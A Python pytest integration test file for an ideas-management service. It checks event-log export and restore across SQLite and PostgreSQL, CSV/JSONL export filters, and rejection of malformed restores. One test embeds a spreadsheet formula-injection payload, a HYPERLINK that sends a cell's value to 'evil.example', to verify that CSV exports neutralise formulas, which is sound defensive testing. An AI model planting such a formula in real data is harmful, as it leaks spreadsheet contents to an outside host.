"""The log, the ideas and the releases out; the log back into an empty database as it was."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import shutil
import sys
from collections.abc import AsyncIterator, Awaitable, Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
import sqlalchemy as sa

from innovation.all_tables import metadata
from innovation.bootstrap import Services, bootstrap
from innovation.config import Settings
from innovation.projections import releases as release_views
from innovation.projections import search
from innovation.projections.projector import snapshot_tables
from innovation.projections.search import similar_ideas
from innovation.releases.shipping import NAME as SHIPPING_READER
from innovation.releases.shipping import shipping_reader
from innovation.store import Database, open_database
from innovation.store.tables import events
from innovation.transfer import exports
from innovation.transfer import restore as restore_module
from innovation.transfer.exports import count_events
from tests.integration.test_import import invoke
from tests.integration.test_similar_ideas import fts_segments
from tests.integration.world import LEAD, World

H1_END = datetime(2024, 6, 30, 22, 0, tzinfo=UTC)  # 2024-07-01 00:00 in Paris


async def history(world: World, services: Services) -> None:
    """Every kind of event: ideas through each exit, an ethics review, a release shipped."""
    await world.everything()
    await services.releases.assemble("2024-H1", actor=LEAD, now=H1_END + timedelta(hours=1))
    end = await services.store.last_position()
    await services.readers.run_until(shipping_reader(services.pipeline, lambda: ()), end)


async def stored_log(database: Database) -> list[tuple[object, ...]]:
    query = sa.select(events).order_by(events.c.position)
    return await database.read(
        lambda c: [
            (*row[:7], row.recorded_at, str(row.event_id).replace("-", ""))
            for row in c.execute(query)
        ]
    )


@pytest.fixture
def empty_database(
    backend: str, database: Database, tmp_path: Path, request: pytest.FixtureRequest
) -> Callable[[], Awaitable[str]]:
    """Makes a migrated database with nothing in it: a new file, or the test's PostgreSQL
    emptied (after the test has read what it needs from it)."""

    async def make() -> str:
        if backend == "sqlite":
            target = tmp_path / "restored.db"
            shutil.copyfile(request.getfixturevalue("sqlite_template"), target)
            return f"sqlite:///{target}"
        tables = ", ".join(table.name for table in metadata.sorted_tables)
        await database.write(
            lambda c: c.exec_driver_sql(f"TRUNCATE {tables} RESTART IDENTITY CASCADE")
        )
        return str(database.engine.url.render_as_string(hide_password=False))

    return make


@pytest.mark.parametrize(
    ("fmt", "batch"), [("jsonl", restore_module.BATCH), ("csv", restore_module.BATCH), ("jsonl", 3)]
)
async def test_an_events_export_restores_into_an_empty_database_to_the_same_read_models(
    backend: str,
    world: World,
    services: Services,
    database: Database,
    database_url: str,
    empty_database: Callable[[], Awaitable[str]],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    fmt: str,
    batch: int,
):
    """PostgreSQL appends the events a batch at a time, one statement a batch, whatever
    streams a batch mixes; SQLite one at a time (reporting its progress a batch at a time)."""
    await history(world, services)
    source_models = await database.read(snapshot_tables)
    source_log = await stored_log(database)
    exported = tmp_path / f"events.{fmt}"
    monkeypatch.setattr(restore_module, "BATCH", batch)
    appends: list[str] = []

    def note(connection: object, cursor: object, statement: str, *args: object) -> None:
        if statement.lstrip().startswith("INSERT INTO events"):
            appends.append(statement)

    export = await asyncio.to_thread(
        invoke, database_url, "export", "events", "--format", fmt, "--output", str(exported)
    )
    target_url = await empty_database()
    sa.event.listen(sa.engine.Engine, "before_cursor_execute", note)
    try:
        restore = await asyncio.to_thread(invoke, target_url, "restore", str(exported))
    finally:
        sa.event.remove(sa.engine.Engine, "before_cursor_execute", note)
    again = await asyncio.to_thread(invoke, target_url, "restore", str(exported))

    assert export.exit_code == 0, export.output
    with exported.open(encoding="utf-8", newline="") as lines:
        assert count_events(lines, fmt) == len(source_log)  # the restore's progress bar's total
    assert restore.exit_code == 0, restore.output
    assert f"restored {len(source_log)} events" in restore.output
    assert again.exit_code == 1
    assert "restore needs an empty one" in " ".join(again.output.split())
    if backend == "postgresql":  # SQLite's append goes to its driver, unseen here
        assert len(appends) == -(-len(source_log) // batch)
    streams = [row[1] for row in source_log]
    batches = [streams[start : start + batch] for start in range(0, len(streams), batch)]
    assert any(len(set(each)) < len(each) for each in batches)  # a stream twice in a batch
    assert any(len(set(each)) > 1 for each in batches)  # streams mixed
    target = open_database(target_url)
    try:
        assert await stored_log(target) == source_log
        assert await target.read(snapshot_tables) == source_models
    finally:
        await target.close()
    assert {row[3] for row in source_log} >= {
        "idea.submitted",
        "idea.merged",
        "idea.released",
        "release.published",
        "experiment.concluded",
    }


@pytest.mark.parametrize(
    ("where", "says"),
    [
        ("in its batch", "line 3: event {event_id} appears twice"),
        ("in a later batch", "line 5: event {event_id} appears twice"),
        ("a version skipped", "line 3: stream '{stream_id}' is at version"),
        ("an id taken by another event", "line 3: event {event_id} appears twice"),
    ],
)
async def test_an_event_the_log_cannot_take_where_it_stands_stops_the_restore_naming_its_line(
    world: World,
    database_url: str,
    empty_database: Callable[[], Awaitable[str]],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    where: str,
    says: str,
):
    """An event repeated (in the batch appended together or in a later one), one whose
    stream skips a version, or one under another's id: made one at a time, the batch names the
    line, and nothing of the restore is written."""
    await world.validated_idea()
    exported = tmp_path / "events.jsonl"
    await asyncio.to_thread(invoke, database_url, "export", "events", "-o", str(exported))
    lines = exported.read_text(encoding="utf-8").splitlines()
    second = json.loads(lines[1])
    third = json.loads(lines[2])
    if where == "a version skipped":
        lines[2] = json.dumps({**third, "stream_id": second["stream_id"], "version": 9})
    elif where == "an id taken by another event":
        lines[2] = json.dumps({**third, "event_id": second["event_id"]})
    else:
        lines.insert(2 if where == "in its batch" else 4, lines[1])
    exported.write_text("\n".join(lines) + "\n", encoding="utf-8")
    target_url = await empty_database()
    monkeypatch.setattr(restore_module, "BATCH", 3)

    restore = await asyncio.to_thread(invoke, target_url, "restore", str(exported))

    assert restore.exit_code == 1, restore.output
    said = says.format(event_id=second["event_id"], stream_id=second["stream_id"])
    assert said in " ".join(restore.output.split())
    target = open_database(target_url)
    try:
        assert await stored_log(target) == []
    finally:
        await target.close()


async def test_a_sqlite_log_restored_into_postgresql_gives_the_same_log_ideas_and_releases(
    backend: str,
    world: World,
    services: Services,
    database_url: str,
    tmp_path: Path,
    request: pytest.FixtureRequest,
):
    """The way from one machine to several: the embedded file's log, restored into PostgreSQL."""
    if backend != "sqlite":
        pytest.skip("moves an SQLite log into PostgreSQL: runs once, from the SQLite side")
    target_url = str(request.getfixturevalue("postgres_migrated"))
    target = open_database(target_url)
    try:
        tables = ", ".join(table.name for table in metadata.sorted_tables)
        await target.write(lambda c: c.exec_driver_sql(f"TRUNCATE {tables} RESTART IDENTITY"))
        await history(world, services)
        exported = tmp_path / "events.jsonl"

        export = await asyncio.to_thread(
            invoke, database_url, "export", "events", "--output", str(exported)
        )
        restore = await asyncio.to_thread(invoke, target_url, "restore", str(exported))

        assert export.exit_code == 0, export.output
        assert restore.exit_code == 0, restore.output
        for kind in ("events", "ideas", "releases"):
            source = await asyncio.to_thread(invoke, database_url, "export", kind)
            moved = await asyncio.to_thread(invoke, target_url, "export", kind)
            assert source.exit_code == moved.exit_code == 0, (source.output, moved.output)
            assert parsed(moved.stdout, "jsonl") == parsed(source.stdout, "jsonl"), kind
        assert len(parsed(source.stdout, "jsonl")) == 1  # the release of 2024-H1
    finally:
        await target.close()


async def test_a_restored_log_ships_only_the_releases_its_source_had_not_shipped(
    world: World,
    services: Services,
    database_url: str,
    empty_database: Callable[[], Awaitable[str]],
    tmp_path: Path,
):
    await history(world, services)  # 2024-H1 published and shipped: its idea is RELEASED
    # 2024-H2 published just before the export, before the shipping reader got to it
    await services.releases.assemble("2024-H2", actor=LEAD, now=datetime(2025, 1, 2, tzinfo=UTC))
    exported = tmp_path / "events.jsonl"
    export = await asyncio.to_thread(
        invoke, database_url, "export", "events", "--output", str(exported)
    )
    target_url = await empty_database()
    restore = await asyncio.to_thread(invoke, target_url, "restore", str(exported))
    assert (export.exit_code, restore.exit_code) == (0, 0), (export.output, restore.output)

    moved = bootstrap(Settings.from_env({}), clock=world.clock, database=open_database(target_url))
    try:
        h1 = await moved.database.read(lambda c: release_views.release_position(c, "2024-H1"))
        restored_checkpoint = await moved.readers.checkpoint(SHIPPING_READER)
        # a recipient the source never had, as the new deployment's settings may add one
        reader = shipping_reader(moved.pipeline, lambda: ("board@example.org",))
        async with asyncio.timeout(30):
            await moved.readers.run_until(reader, await moved.store.last_position())
        queued = await moved.database.read(release_views.deliveries)
    finally:
        await moved.close()

    # the digest of 2024-H1 went out from the source (to whom it had then); the new recipient
    # gets the release the source had not shipped, and no past one
    assert [(d.period, d.recipient) for d in queued] == [("2024-H2", "board@example.org")]
    assert restored_checkpoint == h1  # the reader resumed after the last release shipped


def test_an_export_is_counted_by_its_events_not_its_lines():
    jsonl = '{"position": 1}\n\n{"position": 2}\n'
    quoted = 'position,data\n1,"{""a"": 1}"\n2,"a value\nover two lines"\n'

    assert count_events(io.StringIO(jsonl), "jsonl") == 2
    assert count_events(io.StringIO(quoted, newline=""), "csv") == 2
    assert count_events(io.StringIO(""), "csv") == 0
    assert count_events(io.StringIO('position\n"never closed\n'), "csv") == 0  # unknown


def parsed(text: str, fmt: str) -> list[dict[str, object]]:
    if fmt == "csv":
        return list(csv.DictReader(io.StringIO(text)))
    return [json.loads(line) for line in text.splitlines()]


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
async def test_ideas_events_and_releases_are_exported_since_a_date_in_either_format(
    world: World, services: Services, database_url: str, fmt: str
):
    early = await world.submit(title="Alarm triage for the network centre")
    await services.releases.assemble("2024-H1", actor=LEAD, now=H1_END + timedelta(hours=1))
    world.clock.now = datetime(2024, 9, 2, tzinfo=UTC)
    late = await world.submit(title="Fraud calls flagged before the ring", country="SN")
    await services.releases.assemble("2024-H2", actor=LEAD, now=datetime(2025, 1, 2, tzinfo=UTC))

    def export(kind: str, *since: str) -> list[dict[str, object]]:
        result = invoke(database_url, "export", kind, "--format", fmt, *since)
        assert result.exit_code == 0, result.output
        return parsed(result.stdout, fmt)

    all_ideas = await asyncio.to_thread(export, "ideas")
    recent_ideas = await asyncio.to_thread(export, "ideas", "--since", "2024-09-01")
    recent_events = await asyncio.to_thread(
        export, "events", "--since", "2024-09-01T00:00:00+02:00"
    )
    recent_releases = await asyncio.to_thread(export, "releases", "--since", "2024-12-01")
    all_releases = await asyncio.to_thread(export, "releases")

    assert [idea["idea_id"] for idea in all_ideas] == [early, late]
    assert [idea["idea_id"] for idea in recent_ideas] == [late]
    assert recent_ideas[0]["country"] == "SN"
    assert recent_ideas[0]["themes"] == (
        "customer-experience" if fmt == "csv" else ["customer-experience"]
    )
    assert [event["type"] for event in recent_events] == ["idea.submitted", "release.published"]
    first = recent_events[0]
    data = json.loads(first["data"]) if fmt == "csv" else first["data"]
    assert data["idea_id"] == late
    assert str(first["recorded_at"]).startswith("2024-09-02T00:0")
    assert [release["period"] for release in all_releases] == ["2024-H1", "2024-H2"]
    assert [release["period"] for release in recent_releases] == ["2024-H2"]
    bundle = recent_releases[0]["bundle"]
    assert (json.loads(bundle) if fmt == "csv" else bundle)["period"] == "2024-H2"


async def test_ideas_are_exported_a_page_at_a_time_each_once_in_submission_order(
    world: World, database_url: str, monkeypatch: pytest.MonkeyPatch
):
    from innovation.transfer import exports

    world.clock.step = timedelta(0)  # ideas submitted at one moment are ordered by their ids
    for number in range(7):
        if number == 4:
            world.clock.jump(days=40)
        await world.submit(title=f"Rural tower plan {number}")
    monkeypatch.setattr(exports, "PAGE", 3)

    def export(*since: str) -> list[dict[str, object]]:
        result = invoke(database_url, "export", "ideas", *since)
        assert result.exit_code == 0, result.output
        return parsed(result.stdout, "jsonl")

    every = await asyncio.to_thread(export)
    recent = await asyncio.to_thread(export, "--since", "2024-02-01")

    keys = [(idea["submitted_at"], idea["idea_id"]) for idea in every]
    assert len(keys) == 7
    assert keys == sorted(set(keys))
    assert [(idea["submitted_at"], idea["idea_id"]) for idea in recent] == keys[4:]


async def test_text_a_spreadsheet_would_run_goes_out_as_text_in_csv_only(
    world: World, services: Services, database_url: str
):
    title = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    summary = "+1-2 customers a month churn over billing surprises, says the survey."
    await world.submit(title=title, summary=summary, organisation="@Risk Labs")
    await world.submit(title="-15 % energy in the radio access network", organisation="Ericsson")

    def export(kind: str, fmt: str) -> str:
        result = invoke(database_url, "export", kind, "--format", fmt)
        assert result.exit_code == 0, result.output
        return result.stdout

    sheet = parsed(await asyncio.to_thread(export, "ideas", "csv"), "csv")
    lines = parsed(await asyncio.to_thread(export, "ideas", "jsonl"), "jsonl")
    log = parsed(await asyncio.to_thread(export, "events", "csv"), "csv")

    assert [(row["title"], row["summary"], row["organisation"]) for row in sheet] == [
        ("'" + title, "'" + summary, "'@Risk Labs"),
        ("'-15 % energy in the radio access network", lines[1]["summary"], "Ericsson"),
    ]
    assert [row["version"] for row in sheet] == ["1", "1"]  # numbers are left as they are
    assert [(row["title"], row["organisation"]) for row in lines] == [
        (title, "@Risk Labs"),
        ("-15 % energy in the radio access network", "Ericsson"),
    ]
    # The log's export is read back by restore: its cells are the stored bytes.
    assert json.loads(str(log[0]["data"]))["title"] == title


def test_a_formula_is_guarded_and_plain_text_and_numbers_are_not():
    assert [exports.guard(text) for text in ("=1+1", "+33 1", "-x", "@A1", "\tx", "\rx")] == [
        "'=1+1",
        "'+33 1",
        "'-x",
        "'@A1",
        "'\tx",
        "'\rx",
    ]
    assert [exports.guard(text) for text in ("Plain", "", "a=b", "'quoted")] == [
        "Plain",
        "",
        "a=b",
        "'quoted",
    ]
    assert [exports.guarded_cell(value) for value in (-12.5, -3, None, ["-a", "b"])] == [
        "-12.5",
        "-3",
        "",
        "'-a;b",
    ]


def test_a_since_that_is_not_a_date_is_refused(database_url: str):
    result = invoke(database_url, "export", "ideas", "--since", "last week")

    assert result.exit_code == 2
    assert "'last week' is not an ISO date or date-time" in result.output


def test_an_output_in_a_missing_folder_is_refused_naming_the_option(
    database_url: str, tmp_path: Path
):
    result = invoke(database_url, "export", "ideas", "-o", str(tmp_path / "no" / "ideas.csv"))

    assert result.exit_code == 2, result.output
    assert "--output" in result.output
    assert f"no folder {tmp_path / 'no'}" in result.output


async def test_an_export_whose_reader_stops_reading_stops_quietly(world: World, database_url: str):
    await world.everything()
    env = {**os.environ, "INNOVATION_DATABASE_URL": database_url}
    read_end, write_end = os.pipe()
    os.close(read_end)  # as ``| head`` does once it has its lines
    process = await asyncio.create_subprocess_exec(
        *(sys.executable, "-m", "innovation.cli", "export", "events"),
        env=env,
        stdout=write_end,
        stderr=asyncio.subprocess.PIPE,
    )
    os.close(write_end)

    _, errors = await asyncio.wait_for(process.communicate(), timeout=60)

    assert process.returncode == 1
    assert errors.decode() == ""


async def test_an_export_that_fails_half_way_leaves_no_file_and_whole_ones_replace_it(
    world: World, services: Services, database_url: str, tmp_path: Path, monkeypatch
):
    await world.everything()
    (tmp_path / "out").mkdir()
    target = tmp_path / "out" / "log.jsonl"
    target.write_text("yesterday's export\n")
    real = exports.events

    async def cut_off(*args: object) -> AsyncIterator[dict[str, object]]:
        count = 0
        async for row in real(*args):
            yield row
            count += 1
            if count == 3:
                raise RuntimeError("the database went away")

    monkeypatch.setattr(exports, "events", cut_off)
    failed = await asyncio.to_thread(invoke, database_url, "export", "events", "-o", str(target))
    after_failure = target.read_text()
    monkeypatch.setattr(exports, "events", real)
    whole = await asyncio.to_thread(invoke, database_url, "export", "events", "-o", str(target))

    assert failed.exit_code == 1
    assert str(failed.exception) == "the database went away"
    assert after_failure == "yesterday's export\n"
    assert sorted((tmp_path / "out").iterdir()) == [target]
    assert whole.exit_code == 0, whole.output
    assert count_events(target.read_text().splitlines(), "jsonl") == len(
        await stored_log(services.database)
    )


async def test_a_partial_export_is_refused_by_restore_and_leaves_the_database_empty(
    world: World,
    database_url: str,
    empty_database: Callable[[], Awaitable[str]],
    tmp_path: Path,
):
    await world.validated_idea()
    exported = tmp_path / "events.jsonl"
    await asyncio.to_thread(
        invoke,
        database_url,
        "export",
        "events",
        "--since",
        "2024-01-08T09:02Z",
        "-o",
        str(exported),
    )
    target_url = await empty_database()

    restore = await asyncio.to_thread(invoke, target_url, "restore", str(exported))

    assert restore.exit_code == 1
    assert "restore stopped: line 1:" in restore.output
    target = open_database(target_url)
    try:
        assert await stored_log(target) == []
    finally:
        await target.close()


@pytest.mark.parametrize(
    ("change", "says"),
    [
        ({"stream_id": "idea-\x00"}, "line 2: stream_id holds a NUL"),
        ({"version": 2**63 - 1}, "line 2: version 9223372036854775807 is not one the log writes"),
        ({"version": -5}, "line 2: version -5 is not one the log writes"),
        ({"title": "Alarm\x00 triage"}, "line 2: data holds a NUL"),
    ],
)
async def test_an_export_holding_what_no_log_holds_is_refused_naming_its_line(
    world: World,
    database_url: str,
    empty_database: Callable[[], Awaitable[str]],
    tmp_path: Path,
    change: dict[str, object],
    says: str,
):
    """An export this service wrote never holds these; PostgreSQL refuses them outright, and
    the restore says so by line on both backends rather than blaming the connection."""
    await world.validated_idea()
    exported = tmp_path / "events.jsonl"
    await asyncio.to_thread(invoke, database_url, "export", "events", "-o", str(exported))
    first, second, *rest = exported.read_text(encoding="utf-8").splitlines()
    event = json.loads(second)
    if "title" in change:
        event["data"] = {**event["data"], "title": change["title"]}
    else:
        event.update(change)
    exported.write_text("\n".join([first, json.dumps(event), *rest]) + "\n", encoding="utf-8")
    target_url = await empty_database()

    restore = await asyncio.to_thread(invoke, target_url, "restore", str(exported))

    assert restore.exit_code == 1, restore.output
    assert says in " ".join(restore.output.split())
    assert "INNOVATION_DATABASE_URL" not in restore.output
    target = open_database(target_url)
    try:
        assert await stored_log(target) == []
    finally:
        await target.close()


async def test_a_restore_leaves_the_full_text_index_in_one_segment(
    world: World,
    backend: str,
    database_url: str,
    empty_database: Callable[[], Awaitable[str]],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
):
    """A restore writes every idea's text in one transaction, as a rebuild does, and leaves
    SQLite's index merged as a rebuild leaves it (``test_similar_ideas``)."""
    if backend != "sqlite":
        pytest.skip("PostgreSQL searches a GIN index of the view, which it keeps itself")
    for number in range(60):
        await world.submit(title=f"Rural towers, plan {number}", summary=f"Villages {number}.")
    exported = tmp_path / "events.jsonl"
    await asyncio.to_thread(invoke, database_url, "export", "events", "-o", str(exported))

    async def restored(merge: bool) -> int:
        target_url = await empty_database()
        target = open_database(target_url)
        try:  # a small buffer, so that 60 ideas are written in several segments
            await target.write(
                lambda c: c.exec_driver_sql(
                    "INSERT INTO ideas_fts (ideas_fts, rank) VALUES ('hashsize', 256)"
                )
            )
        finally:
            await target.close()
        with monkeypatch.context() as patched:
            if not merge:
                patched.setattr(search, "merge_index", lambda connection: None)
            done = await asyncio.to_thread(invoke, target_url, "restore", str(exported))
        assert done.exit_code == 0, done.output
        target = open_database(target_url)
        try:
            assert await target.read(lambda c: similar_ideas(c, "rural towers plan 7"))
            return await target.read(fts_segments)
        finally:
            await target.close()

    assert await restored(merge=False) > 1, "written in one transaction, left as written"
    assert await restored(merge=True) == 1
